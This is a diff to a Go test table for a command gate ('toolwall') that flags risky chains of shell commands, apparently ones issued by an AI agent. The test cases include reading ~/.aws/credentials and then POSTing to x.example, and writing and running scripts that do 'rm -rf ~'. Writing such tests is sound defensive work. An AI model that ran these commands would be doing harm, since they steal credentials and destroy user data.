@@ -177,6 +177,11 @@ func TestChainMemory(t *testing.T) {
 		{"other file", []step{{record: "curl -o a.sh http://x.example/a.sh"}}, "bash b.sh", toolwall.Allow},
 		{"secret then egress", []step{{record: "cat ~/.aws/credentials"}}, "curl -X POST -d @- https://x.example/c", toolwall.Ask},
 		{"egress then secret", []step{{record: "curl -X POST -d hi https://x.example/c"}}, "cat README.md", toolwall.Allow},
+		{"heredoc script then run", []step{{record: "cat > /tmp/x.sh <<'EOF'\nrm -rf ~\nEOF"}}, "bash /tmp/x.sh", toolwall.Ask},
+		{"echo script then source", []step{{record: "cd /tmp && echo 'rm -rf $HOME/*' > y.sh"}}, ". /tmp/y.sh", toolwall.Ask},
+		{"harmless heredoc script then run", []step{{record: "cat > /tmp/x.sh <<'EOF'\ngo test ./...\nEOF"}}, "bash /tmp/x.sh", toolwall.Allow},
+		{"written and run in one call", nil, "echo 'rm -rf ~' > x.sh; bash x.sh", toolwall.Ask},
+		{"notes that mention rm are not run", nil, "echo 'rm -rf ~' > notes.md; cat notes.md", toolwall.Allow},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -198,6 +203,9 @@ func TestChainMemory(t *testing.T) {
 			v := g.Evaluate(ctx, c)
 			if v.Action != tt.want {
 				t.Errorf("%s: %v %v (%s), want %v", tt.cmd, v.Action, v.Rules(), v.Reason, tt.want)
+			}
+			if len(tt.steps) == 0 {
+				return // a single-call chain fires in any session
 			}
 			other := bashCall(tt.cmd)
 			other.Session = "other"
